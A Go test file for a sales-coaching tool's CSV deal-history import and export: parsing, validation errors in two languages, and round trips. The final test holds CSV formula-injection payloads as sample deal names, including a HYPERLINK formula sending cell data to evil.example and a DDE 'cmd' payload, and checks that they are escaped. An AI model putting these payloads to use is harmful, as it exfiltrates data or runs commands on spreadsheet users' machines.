package coach_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"salescoach/coach"
)

const historyHeader = "deal_id,name,owner,amount,currency,stage,entered_at,reason\n"

func TestParseHistoryCSV(t *testing.T) {
	file := historyHeader +
		"A-1,Acme Corp,U0001,12000,USD,prospecting,2026-01-05T09:00:00Z,\n" +
		"A-1,Acme Corp,U0001,12000,USD,contact,2026-01-07T10:30:00+01:00,\n" +
		"A-2,深圳科技,U0002,\"5,000.50\",eur,qualification,2026-01-09T11:00:00.1234567Z,\n" +
		"A-1,Acme Corp,U0001,15000,USD,won,2026-02-10T16:00:00Z,\n" +
		"A-2,深圳科技,U0002,5000.50,EUR,lost,2026-01-20T11:00:00Z,no decision\n" +
		"A-3,Globex,U0003,,,lost,2026-01-21T11:00:00Z,price: too high\n" +
		"A-4,Initech,U0003,€300,,closing,2026-01-21T11:00:00Z,\n"
	rows, bad := coach.ParseHistoryCSV(strings.NewReader(file))
	if len(bad) > 0 {
		t.Fatalf("errors: %v", bad)
	}
	want := []coach.HistoryRow{
		{Line: 2, DealID: "A-1", Name: "Acme Corp", Owner: "U0001", Amount: coach.Money{Cents: 1_200_000, Currency: "USD"}, HasAmount: true,
			Stage: coach.Prospecting, At: time.Date(2026, 1, 5, 9, 0, 0, 0, time.UTC)},
		{Line: 3, DealID: "A-1", Name: "Acme Corp", Owner: "U0001", Amount: coach.Money{Cents: 1_200_000, Currency: "USD"}, HasAmount: true,
			Stage: coach.Contact, At: time.Date(2026, 1, 7, 9, 30, 0, 0, time.UTC)},
		{Line: 4, DealID: "A-2", Name: "深圳科技", Owner: "U0002", Amount: coach.Money{Cents: 500_050, Currency: "EUR"}, HasAmount: true,
			Stage: coach.Qualification, At: time.Date(2026, 1, 9, 11, 0, 0, 123456000, time.UTC)},
		{Line: 5, DealID: "A-1", Name: "Acme Corp", Owner: "U0001", Amount: coach.Money{Cents: 1_500_000, Currency: "USD"}, HasAmount: true,
			Stage: coach.Won, At: time.Date(2026, 2, 10, 16, 0, 0, 0, time.UTC)},
		{Line: 6, DealID: "A-2", Name: "深圳科技", Owner: "U0002", Amount: coach.Money{Cents: 500_050, Currency: "EUR"}, HasAmount: true,
			Stage: coach.Lost, At: time.Date(2026, 1, 20, 11, 0, 0, 0, time.UTC), Reason: coach.ReasonNoDecision},
		{Line: 7, DealID: "A-3", Name: "Globex", Owner: "U0003", Stage: coach.Lost, At: time.Date(2026, 1, 21, 11, 0, 0, 0, time.UTC),
			Reason: coach.ReasonPrice, Text: "too high"},
		{Line: 8, DealID: "A-4", Name: "Initech", Owner: "U0003", Amount: coach.Money{Cents: 30_000, Currency: "EUR"}, HasAmount: true,
			Stage: coach.Closing, At: time.Date(2026, 1, 21, 11, 0, 0, 0, time.UTC)},
	}
	if len(rows) != len(want) {
		t.Fatalf("%d rows, want %d: %+v", len(rows), len(want), rows)
	}
	for i := range want {
		if g, w := rows[i], want[i]; g != w {
			t.Errorf("row %d:\n got %+v\nwant %+v", i, g, w)
		}
	}
}

func TestParseHistoryCSVRefuses(t *testing.T) {
	good := "A-1,Acme Corp,U0001,12000,USD,prospecting,2026-01-05T09:00:00Z,\n"
	tests := []struct {
		name string
		file string
		want map[int]string // line → part of the reason
	}{
		{"UnknownStage", historyHeader + good + "A-1,Acme Corp,U0001,12000,USD,qualifcation,2026-01-06T09:00:00Z,\n",
			map[int]string{3: `Unknown stage "qualifcation". Did you mean qualification?`}},
		// §8 takes stage keys only: a name or alias /deal move reads is
		// refused with the key to use.
		{"Retention", historyHeader + "A-1,Acme Corp,U0001,12000,USD,presentation,2026-01-05T09:00:00Z,\nA-1,Acme Corp,U0001,12000,USD,retention,2026-01-06T09:00:00Z,\n",
			map[int]string{3: `Use the stage key won, not "retention"`}},
		{"Alias", historyHeader + "A-1,Acme Corp,U0001,12000,USD,Demo,2026-01-05T09:00:00Z,\n",
			map[int]string{2: `Use the stage key presentation, not "Demo"`}},
		{"KeyInCapitals", historyHeader + "A-1,Acme Corp,U0001,12000,USD,Prospecting,2026-01-05T09:00:00Z,\nA-1,Acme Corp,U0001,12000,USD,WON,2026-01-05T09:00:00Z,\n",
			map[int]string{3: "Rows out of order"}},
		{"BadTime", historyHeader + good + "A-1,Acme Corp,U0001,12000,USD,contact,2026-01-06 09:00,\n",
			map[int]string{3: "not an RFC 3339 time"}},
		{"ReasonOnOpenRow", historyHeader + good + "A-1,Acme Corp,U0001,12000,USD,contact,2026-01-06T09:00:00Z,price\n",
			map[int]string{3: "belongs on a lost row only"}},
		{"OutOfOrder", historyHeader + good + "A-1,Acme Corp,U0001,12000,USD,contact,2026-01-04T09:00:00Z,\n",
			map[int]string{3: "Rows out of order"}},
		{"SameTime", historyHeader + good + "A-1,Acme Corp,U0001,12000,USD,contact,2026-01-05T09:00:00Z,\n",
			map[int]string{3: "Rows out of order"}},
		{"SameStageTwice", historyHeader + good + "A-1,Acme Corp,U0001,12000,USD,prospecting,2026-01-06T09:00:00Z,\n",
			map[int]string{3: "different stages"}},
		{"WonAfterLost", historyHeader + good + "A-1,Acme Corp,U0001,12000,USD,lost,2026-01-06T09:00:00Z,\nA-1,Acme Corp,U0001,12000,USD,won,2026-01-07T09:00:00Z,\n",
			map[int]string{4: "must follow an open stage"}},
		{"BadAmount", historyHeader + "A-1,Acme Corp,U0001,12.000,USD,prospecting,2026-01-05T09:00:00Z,\n",
			map[int]string{2: "ambiguous"}},
		{"NegativeAmount", historyHeader + "A-1,Acme Corp,U0001,-5,USD,prospecting,2026-01-05T09:00:00Z,\n",
			map[int]string{2: "negative"}},
		{"AmountInAnotherCurrency", historyHeader + "A-1,Acme Corp,U0001,€12000,USD,prospecting,2026-01-05T09:00:00Z,\n",
			map[int]string{2: "not in USD"}},
		{"BadCurrency", historyHeader + "A-1,Acme Corp,U0001,12000,DOLLARS,prospecting,2026-01-05T09:00:00Z,\n",
			map[int]string{2: "Unknown currency"}},
		{"EmptyName", historyHeader + "A-1,,U0001,12000,USD,prospecting,2026-01-05T09:00:00Z,\n",
			map[int]string{2: "needs a name"}},
		{"BadOwner", historyHeader + "A-1,Acme,alice,12000,USD,prospecting,2026-01-05T09:00:00Z,\n",
			map[int]string{2: "not a Slack user id"}},
		{"EmptyDealID", historyHeader + ",Acme,U0001,12000,USD,prospecting,2026-01-05T09:00:00Z,\n",
			map[int]string{2: "deal_id is empty"}},
		{"MissingColumn", "deal_id,name,owner,amount,stage,entered_at,reason\n" + good,
			map[int]string{1: "lacks currency"}},
		{"Empty", "", map[int]string{1: "empty"}},
		{"HeaderOnly", historyHeader, map[int]string{1: "no rows"}},
		{"StrayQuote", historyHeader + good + "A-1,Acme \"Corp,U0001,12000,USD,contact,2026-01-06T09:00:00Z,\n",
			map[int]string{3: "not valid CSV"}},
		{"OneOfEachKind", historyHeader + good +
			"A-1,Acme Corp,U0001,12000,USD,qualifcation,2026-01-06T09:00:00Z,\n" + // line 3
			"A-1,Acme Corp,U0001,12000,USD,contact,yesterday,\n" + // line 4
			"A-1,Acme Corp,U0001,12000,USD,contact,2026-01-07T09:00:00Z,price\n" + // line 5
			"A-1,Acme Corp,U0001,12000,USD,contact,2026-01-04T09:00:00Z,\n" + // line 6
			"A-2,Globex,U0002,5000,USD,contact,2026-01-04T09:00:00Z,\n", // line 7: fine
			map[int]string{3: "Unknown stage", 4: "RFC 3339", 5: "lost row only", 6: "out of order"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rows, bad := coach.ParseHistoryCSV(strings.NewReader(tt.file))
			if rows != nil {
				t.Errorf("rows returned with errors: %+v", rows)
			}
			got := map[int]string{}
			for _, e := range bad {
				if e.Err == nil || e.Err.EN() == "" || e.Err.ZH() == "" || strings.ContainsAny(e.Err.EN()+e.Err.ZH(), "\n\r") {
					t.Errorf("line %d: error is not one line in both languages: %+v", e.Line, e.Err)
					continue
				}
				got[e.Line] += e.Err.EN()
			}
			if len(got) != len(tt.want) {
				t.Errorf("errors on lines %v, want %v", bad, tt.want)
			}
			for line, part := range tt.want {
				if !strings.Contains(got[line], part) {
					t.Errorf("line %d: %q, want it to say %q", line, got[line], part)
				}
			}
		})
	}
}

func TestHistoryCSVRoundTrip(t *testing.T) {
	rows := []coach.HistoryRow{
		{DealID: "SC-1", Name: "Acme, \"the\" Corp", Owner: "U1", Amount: coach.Money{Cents: 1_200_050, Currency: "USD"}, HasAmount: true,
			Stage: coach.Contact, At: time.Date(2026, 1, 5, 9, 0, 0, 1000, time.UTC)},
		{DealID: "SC-1", Name: "Acme, \"the\" Corp", Owner: "U1", Amount: coach.Money{Cents: 1_200_050, Currency: "USD"}, HasAmount: true,
			Stage: coach.Lost, At: time.Date(2026, 1, 6, 9, 0, 0, 0, time.UTC), Reason: coach.ReasonOther, Text: "they went quiet\nafter the demo"},
		{DealID: "X", Name: "深圳科技", Owner: "U2", Amount: coach.Money{Currency: "CNY"}, Stage: coach.Won, At: time.Date(2026, 1, 7, 0, 0, 0, 0, time.UTC)},
	}
	var b bytes.Buffer
	if err := coach.WriteHistoryCSV(&b, rows); err != nil {
		t.Fatal(err)
	}
	back, bad := coach.ParseHistoryCSV(&b)
	if len(bad) > 0 {
		t.Fatalf("%s\nerrors: %v", b.String(), bad)
	}
	for i := range rows {
		back[i].Line = 0
		if back[i] != rows[i] {
			t.Errorf("row %d:\n got %+v\nwant %+v", i, back[i], rows[i])
		}
	}
}

func TestExportable(t *testing.T) {
	at := func(h int) time.Time { return time.Date(2026, 1, 1, h, 0, 0, 0, time.UTC) }
	row := func(deal string, s coach.Stage, h int) coach.HistoryRow {
		return coach.HistoryRow{DealID: deal, Stage: s, At: at(h)}
	}
	got := coach.Exportable([]coach.HistoryRow{
		row("A", coach.Contact, 1), row("A", coach.Contact, 2), row("A", coach.Closing, 3),
		row("A", coach.Won, 4), row("A", coach.Lost, 5), // won, then lost: the loss stands
		row("B", coach.Contact, 1), // a new deal may repeat A's last stage
	})
	want := []coach.HistoryRow{row("A", coach.Contact, 1), row("A", coach.Closing, 3), row("A", coach.Lost, 5), row("B", coach.Contact, 1)}
	if len(got) != len(want) {
		t.Fatalf("got %+v, want %+v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("row %d: got %+v, want %+v", i, got[i], want[i])
		}
	}
}

func TestEntryKind(t *testing.T) {
	tests := []struct {
		prev, next coach.Stage
		want       coach.EventKind
	}{
		{"", coach.Contact, coach.EvCreate},
		{"", coach.Lost, coach.EvCreate},
		{coach.Contact, coach.Qualification, coach.EvMove},
		{coach.Closing, coach.Contact, coach.EvMove},
		{coach.Closing, coach.Won, coach.EvWon},
		{coach.Closing, coach.Lost, coach.EvLost},
		{coach.Lost, coach.Qualification, coach.EvReopen},
		{coach.Won, coach.Closing, coach.EvReopen},
	}
	for _, tt := range tests {
		if got := coach.EntryKind(tt.prev, tt.next); got != tt.want {
			t.Errorf("EntryKind(%q, %q) = %q, want %q", tt.prev, tt.next, got, tt.want)
		}
	}
}

func TestExportNumber(t *testing.T) {
	tests := []struct {
		id string
		n  int
		ok bool
	}{
		{"SC-12", 12, true}, {coach.ExportID("", 7), 7, true}, {"SC-012", 0, false}, {"SC-", 0, false},
		{"SC-0", 0, false}, {"SC-1x", 0, false}, {"A-12", 0, false}, {"sc-12", 0, false},
	}
	for _, tt := range tests {
		n, ok := coach.ExportNumber(tt.id)
		if n != tt.n || ok != tt.ok {
			t.Errorf("ExportNumber(%q) = %d, %v; want %d, %v", tt.id, n, ok, tt.n, tt.ok)
		}
	}
}

// A cell a spreadsheet would run as a formula is exported as text (a leading
// apostrophe) and imported back as the text the user typed.
func TestHistoryCSVFormulas(t *testing.T) {
	names := []string{`=HYPERLINK("http://evil.example/?x="&A1,"Open CRM")`, "=cmd|' /C calc'!A0", "+1 555 0100", "-5 seats",
		"@SUM(A1:A9)", "'=already quoted", "''+twice", "'plain apostrophe", "Acme = Globex", "-"}
	var rows []coach.HistoryRow
	for i, n := range names {
		id := fmt.Sprintf("=X-%d", i)
		rows = append(rows, coach.HistoryRow{DealID: id, Name: n, Owner: "U1", Amount: coach.Money{Cents: 500, Currency: "USD"}, HasAmount: true,
			Stage: coach.Contact, At: time.Date(2026, 1, 5, 9, 0, 0, 0, time.UTC)},
			coach.HistoryRow{DealID: id, Name: n, Owner: "U1", Amount: coach.Money{Cents: 500, Currency: "USD"}, HasAmount: true,
				Stage: coach.Lost, At: time.Date(2026, 1, 6, 9, 0, 0, 0, time.UTC), Reason: coach.ReasonOther, Text: "went quiet"})
	}
	file := coach.HistoryCSV(rows)
	recs, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s exported as %q: a spreadsheet runs it", coach.HistoryColumns[i], cell)
			}
		}
		if rec[3] != "5" {
			t.Errorf("amount exported as %q, want 5", rec[3])
		}
	}
	back, bad := coach.ParseHistoryCSV(bytes.NewReader(file))
	if len(bad) > 0 {
		t.Fatalf("%s\nerrors: %v", file, bad)
	}
	for i := range rows {
		back[i].Line = 0
		if back[i] != rows[i] {
			t.Errorf("row %d:\n got %+v\nwant %+v", i, back[i], rows[i])
		}
	}
}
